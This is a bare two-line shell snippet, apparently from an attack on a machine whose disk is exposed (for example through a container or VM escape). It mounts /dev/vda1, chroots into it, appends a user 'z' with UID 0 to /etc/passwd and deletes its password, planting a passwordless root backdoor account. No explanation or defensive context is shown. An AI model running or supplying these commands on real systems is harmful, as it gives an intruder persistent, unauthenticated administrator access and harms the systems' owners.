mkdir /mnt/x; mount /dev/vda1 /mnt/x
chroot /mnt/x sh -c 'echo "z:x:0:0::/root:/bin/sh" >> /etc/passwd; passwd -d z'
